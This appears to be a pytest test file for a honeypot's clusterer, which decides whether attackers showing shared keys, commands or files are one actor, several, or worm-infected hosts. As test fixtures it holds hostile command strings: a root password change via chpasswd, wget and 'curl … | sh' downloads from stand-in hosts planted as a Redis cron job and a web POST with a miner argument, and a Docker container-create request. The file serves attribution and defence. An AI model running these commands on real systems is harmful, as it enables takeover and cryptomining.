# SPDX-License-Identifier: MIT
"""Whether those who show a feature are one actor, several, or infected devices."""

from __future__ import annotations

import pytest
from sqlalchemy import Engine, select
from tests.decnet_workers.clusterer.scenes import (
    SECOND,
    START,
    Follower,
    command,
    event,
    file,
    groups,
    hassh,
    key,
    password,
    several,
    stack,
)

from decnet_core.events.catalogue import CertificateProbed, CommandRun, HttpRequest, Payload, ServiceRequest
from decnet_core.events.envelope import Event
from decnet_models.database.engine import reading, writing
from decnet_models.identities.evidence_rows import forget
from decnet_models.identities.tables import IDENTITIES
from decnet_workers.clusterer.owners import (
    are_unrelated,
    is_mixed,
    is_shared_address,
    is_sold,
    may_be_sold,
    tells_apart,
)
from decnet_workers.clusterer.signals import signals

URL = ("url", "bought")
DAY = 86_400

Marks = frozenset[tuple[str, str]]


def shown(*marks: tuple[str, str]) -> Marks:
    return frozenset(one for one in (URL, *marks) if tells_apart(one))


def test_those_who_show_marks_of_three_or_more_are_several() -> None:
    buyers = [shown(("ssh_key", name), ("host", "of the loader")) for name in "aabbccd"]
    assert is_mixed(URL, buyers)
    assert not is_mixed(URL, buyers[:4])  # two may be one actor's, who replaced the key
    assert not is_mixed(URL, [shown(("host", "of the loader"))] * 7)


def test_marks_that_one_attacker_joins_are_one_actors() -> None:
    replaced = [shown(*(("host", host) for host in hosts)) for hosts in ("a", "ab", "bc", "c", "cd", "d")]
    assert not is_mixed(URL, replaced)


def test_a_key_that_most_show_makes_them_one_actors() -> None:
    servers = [shown(("host", host), ("ssh_key", "one")) for host in "aabbcc"]
    assert not is_mixed(URL, [*servers, shown(("host", "d")), shown(("host", "d"))])


def test_of_an_address_that_several_people_share_nothing_is_learnt() -> None:
    buyers = [shown(("ssh_key", name)) for name in "aabbcc"]
    assert is_mixed(URL, buyers)
    assert is_shared_address({"ssh_key": 3, "hassh": 2})
    assert not is_shared_address({"ssh_key": 2, "hassh": 1})


@pytest.mark.parametrize("kind", ["ssh_key", "planted_key", "wallet"])
def test_what_four_with_keys_of_their_own_show_is_sold(kind: str) -> None:
    buyers = [shown((kind, name)) for name in "aabcd"]
    assert is_sold(URL, buyers)
    assert not is_sold(URL, buyers[:4])  # three keys in a row may be one actor's


def test_keys_that_replace_each_other_or_that_one_has_nearly_alone_are_no_sale() -> None:
    chain = [shown(("ssh_key", one), ("ssh_key", other)) for one, other in ("ab", "bc", "cd", "de", "ef")]
    assert not is_sold(URL, chain)
    assert not is_sold(URL, [*[shown(("ssh_key", "a"))] * 8, *(shown(("ssh_key", name)) for name in "bcd")])
    assert not is_sold(URL, [shown(("host", name)) for name in "abcdef"])  # a server is not a key
    assert not is_sold(URL, [shown(("certificate", name)) for name in "abcdef"])  # one may have several machines


def test_a_key_does_not_contradict_itself() -> None:
    assert not is_sold(("wallet", "x"), [frozenset({("wallet", "x"), ("url", name)}) for name in "abcd"])
    assert not may_be_sold(("ssh_key", "x"), 10)
    assert not may_be_sold(URL, 3)


def test_groups_with_nothing_in_common_are_several_actors_unless_so_few_are_apart_by_chance() -> None:
    def of(text: str) -> list[set[tuple[str, str]]]:
        return [{("command", name) for name in names} for names in text.split()]

    assert are_unrelated(of("a a a a b b b b"))
    assert are_unrelated(of("ax ax ax ax bx bx bx bx"))  # all show x: it came with what they have
    assert are_unrelated(of("a a a b b b"))  # once in twenty times
    assert not are_unrelated(of("a a a a b b"))  # once in fifteen times
    assert not are_unrelated(of("a a a ac bc b b b"))
    assert not are_unrelated(of("a a a a a a a a a b"))
    assert not are_unrelated([set() for _ in range(9)])


def crowd() -> list[Event]:
    """Return events of 600 strangers, in 120 days."""
    return [
        event(f"10.0.{number // 200}.{number % 200 + 1}", hassh(f"{number:032x}"), DAY * (number % 120))
        for number in range(600)
    ]


OF_A, OF_B, BETWEEN = ("198.51.100.1", "198.51.100.2"), ("203.0.113.1", "203.0.113.2"), "192.0.2.1"


def crew(days_of_a: tuple[int, int], days_of_b: tuple[int, int]) -> list[Event]:
    """Return events of two with a key each; a third address shows a file of one of them and a password of the other."""
    keys = [
        event(each, key(name), DAY * day)
        for name, addresses, days in (("a", OF_A, days_of_a), ("b", OF_B, days_of_b))
        for each, day in zip(addresses, days, strict=True)
    ]
    known = file("f" * 64), command("echo 'root:vK3bTq9xZ' | chpasswd")
    return [
        *keys,
        event(OF_A[1], known[0], DAY * days_of_a[1]),
        *(event(BETWEEN, one, DAY * days_of_a[1]) for one in known),
        event(OF_B[1], known[1], DAY * days_of_b[1]),
    ]


@pytest.mark.parametrize(("of_b", "one"), [((12, 13), False), ((14, 15), True), ((16, 17), True)])
def test_two_keys_that_a_third_address_connects_are_one_actors_if_one_came_after_the_other(
    engine: Engine, of_b: tuple[int, int], one: bool
) -> None:
    Follower(engine).run([*crowd(), *crew((3, 14), of_b)])
    assert several(engine) == (groups([*OF_A, BETWEEN, *OF_B]) if one else groups(OF_A, [BETWEEN, *OF_B]))


def test_keys_with_which_three_families_of_evidence_were_seen_are_one_actors_at_any_time(engine: Engine) -> None:
    line = "wget http://198.51.100.7/own/run; do-own --thing here; second-own --thing"
    more = [event(each, one, DAY * 12) for each in (*OF_A, *OF_B) for one in (command(line), hassh("own"))]
    Follower(engine).run([*crowd(), *crew((3, 14), (12, 13)), *more])
    assert several(engine) == groups([*OF_A, BETWEEN, *OF_B])


@pytest.mark.parametrize(("of_b", "one"), [((4, 9), False), ((21, 25), True)])
def test_a_list_joins_nobody_if_two_who_try_it_have_keys_of_the_same_days(
    engine: Engine, of_b: tuple[int, int], one: bool
) -> None:
    secrets = [password("root", f"fu{number}Zq-{number}own") for number in range(6)]
    without = "192.0.2.1", "192.0.2.2"
    sent = [event(each, one, DAY * 8) for each in (*without, *OF_A, *OF_B) for one in secrets]
    for name, addresses, days in (("a", OF_A, (3, 12)), ("b", OF_B, of_b)):
        sent += [event(each, key(name), DAY * day) for each in addresses for day in days]
    Follower(engine).run([*crowd(), *sent])
    assert several(engine) == (groups(OF_A, OF_B, without) if one else groups(OF_A, OF_B))


def lines_of(name: str, *numbers: int) -> list[CommandRun]:
    """Return some of the commands that one person runs."""
    return [command(f"{name}{number} --of-{name}-own") for number in numbers]


@pytest.mark.parametrize(
    ("days_of_b", "numbers", "one"),
    [((4, 9), (1, 2), False), ((4, 9), (1,), True), ((21, 25), (1, 2), True)],
    ids=["same days", "one command", "other days"],
)
def test_what_two_fetch_who_run_commands_of_their_own_in_the_same_days_is_a_kit_and_joins_nobody(
    engine: Engine, days_of_b: tuple[int, int], numbers: tuple[int, ...], one: bool
) -> None:
    """An attacker with the kit and nothing else is nobody's then."""
    fetched, only = file("f" * 64), "192.0.2.1"
    sent = [event(only, fetched, DAY * 5)]
    for name, addresses, days in (("hide", OF_A, (3, 12)), ("sweep", OF_B, days_of_b)):
        shown = (fetched, *lines_of(name, *numbers))
        sent += [event(each, line, DAY * day) for each in addresses for line in shown for day in days]
    Follower(engine).run([*crowd(), *sent])
    assert (groups([only, *OF_A, *OF_B]) == several(engine)) == one
    if not one:
        assert all(only not in members for members in several(engine))


def test_a_kit_is_found_when_the_last_command_of_its_users_comes(engine: Engine) -> None:
    """Somebody who does not show the kit runs it, too: what one address alone runs tells nothing of how others work."""
    fetched = file("f" * 64)
    sent = [event(each, fetched, DAY * day) for each in (OF_A[0], OF_B[0]) for day in (3, 12)]
    for name, (user, other) in (("hide", OF_A), ("sweep", OF_B)):
        sent += [event(user, line, DAY * day) for line in lines_of(name, 1, 2) for day in (3, 12)]
        sent += [event(other, line, DAY * 4) for line in lines_of(name, 1)]
    Follower(engine).run([*crowd(), *sent])
    assert any({OF_A[0], OF_B[0]} <= members for members in several(engine))
    others = (("hide", OF_A[1]), ("sweep", OF_B[1]))
    Follower(engine).run([event(other, line, DAY * 4) for name, other in others for line in lines_of(name, 2)])
    assert not any({OF_A[0], OF_B[0]} <= members for members in several(engine))


@pytest.mark.parametrize("shown", [file("f" * 64), CertificateProbed(contact=START, sha256="d" * 64, subject="CN=x")])
@pytest.mark.parametrize(("names", "one"), [(("hide", "sweep"), False), (("hide", "hide"), True)])
def test_what_eight_show_who_have_nothing_else_in_common_joins_nobody_at_any_time(
    engine: Engine, names: tuple[str, str], one: bool, shown: Payload
) -> None:
    users = [f"198.51.{number}.7" for number in range(8)]
    sent = [event(each, shown, DAY * place) for place, each in enumerate(users)]
    for place, each in enumerate(users):
        sent += [event(each, line, DAY * place) for line in lines_of(names[place // 4], 1)]
    Follower(engine).run([*crowd(), *sent])
    assert several(engine) == (groups(users) if one else set())


@pytest.mark.parametrize(("lines", "one"), [(2, True), (1, False)])
def test_who_replaces_key_and_machine_at_an_address_is_known_by_rare_commands_that_go_with_both_keys(
    engine: Engine, lines: int, one: bool
) -> None:
    with_old, with_both, with_new = ("198.51.100.1", "198.51.100.2"), "192.0.2.1", ("203.0.113.1", "203.0.113.2")
    old, new = [key("old"), hassh("old")], [key("new"), hassh("new")]
    shown = {with_old[0]: old, with_old[1]: old, with_both: [*old, *new], with_new[0]: new, with_new[1]: new}
    sent = [event(each, payload, DAY) for each, payloads in shown.items() for payload in payloads]
    own = [command(f"{name} --of-{name}-own") for name in ("fetch", "hide")[:lines]]
    sent += [event(each, line, DAY) for each in (with_old[0], with_new[0]) for line in own]
    Follower(engine).run([*crowd(), *sent])
    if one:
        assert several(engine) == groups([*with_old, with_both, *with_new])
    else:
        assert len(several(engine)) == 2


@pytest.mark.parametrize(("systems", "one"), [(1, True), (9, False)])
def test_nine_hosts_of_as_many_systems_are_infected_by_a_worm_and_nine_of_one_are_a_persons(
    engine: Engine, systems: int, one: bool
) -> None:
    fetched = ServiceRequest(service="redis", action="SET", detail={"ARGS": "y * * * * curl http://w.example.net/r|sh"})
    hosts = [f"198.51.{number}.7" for number in range(9)]
    sent = [
        event(each, shown, DAY * place)
        for place, each in enumerate(hosts)
        for shown in (fetched, stack(f"system {place % systems}"))
    ]
    Follower(engine).run([*crowd(), *sent])
    assert several(engine) == (groups(hosts) if one else set())


def test_what_some_hosts_of_a_worm_show_by_another_way_in_joins_them_no_more_than_its_server(engine: Engine) -> None:
    stored = ServiceRequest(service="redis", action="SET", detail={"ARGS": "y * * * * curl http://w.example.net/r|sh"})
    mined = HttpRequest(method="POST", target="/x", body=f"curl http://w.example.net/s | sh; m -u 4{'7Kq3' * 23}Zp")
    by_redis, by_web = [f"198.51.{number}.7" for number in range(9)], [f"203.0.{number}.7" for number in range(3)]
    sent = [
        event(each, shown, DAY * place)
        for place, each in enumerate((*by_redis, *by_web))
        for shown in (stored if each in by_redis else mined, stack(f"system {place}"))
    ]
    Follower(engine).run([*crowd(), *sent])
    assert several(engine) == set()


@pytest.mark.parametrize("known", [True, False])
@pytest.mark.parametrize(("clients", "works", "one"), [(5, False, False), (1, False, True), (5, True, True)])
def test_a_key_that_five_offer_by_different_clients_who_do_nothing_else_is_published(
    engine: Engine, clients: int, works: bool, one: bool, known: bool
) -> None:
    first = 0 if known else 1000  # the crowd has the first clients, too
    users = [f"198.51.{number}.7" for number in range(5)]
    sent = [event(each, key("k"), DAY * place) for place, each in enumerate(users)]
    sent += [event(each, hassh(f"{first + place % clients:032x}"), DAY * place) for place, each in enumerate(users)]
    sent += [event(each, line, DAY * 6) for each in users for line in lines_of("own", 1) if works]
    Follower(engine).run([*crowd(), *sent])
    assert several(engine) == (groups(users) if one else set())


def test_a_certificate_of_four_whose_keys_contradict_each_other_joins_none_of_them(engine: Engine) -> None:
    default = CertificateProbed(contact=START + SECOND, sha256="d" * 64, subject="CN=default")
    users = [f"198.51.{number}.7" for number in range(4)]
    shown = [event(each, one) for each in users for one in (default, key(each))]
    Follower(engine).run([*shown[:-2], *(event("203.0.113.1", one) for one in (default, key(users[0])))])
    assert len(several(engine)) == 1
    Follower(engine).run([*shown[-2:]])
    assert several(engine) == groups([users[0], "203.0.113.1"])


@pytest.mark.parametrize(
    ("target", "found"),
    [("/v1.41/containers/create?name=a", True), ("/containers/create", True), ("/upload?to=/containers/create", False)],
)
def test_only_who_asks_docker_for_a_container_may_be_its_worm(target: str, found: bool) -> None:
    sent = HttpRequest(method="POST", target=target, body='{"Image": "own/run", "Cmd": ["sh"]}')
    assert ("docker" in {one.value for one in signals(sent)}) == found


def test_evidence_that_is_forgotten_leaves_the_times_of_the_others(engine: Engine) -> None:
    came = {"192.0.2.1": 1, "192.0.2.2": 5, "192.0.2.3": 9}
    Follower(engine).run([event(one, key("shared"), at) for one, at in came.items()])
    with writing(engine) as connection:
        forget(connection, ["192.0.2.1", "192.0.2.3"])
    f = IDENTITIES.feature.c
    with reading(engine) as connection:
        left = connection.execute(select(f.subjects, f.first_seen, f.last_seen).where(f.kind == "ssh_key")).one()
    assert tuple(left) == (1, START + 5 * SECOND, START + 5 * SECOND)
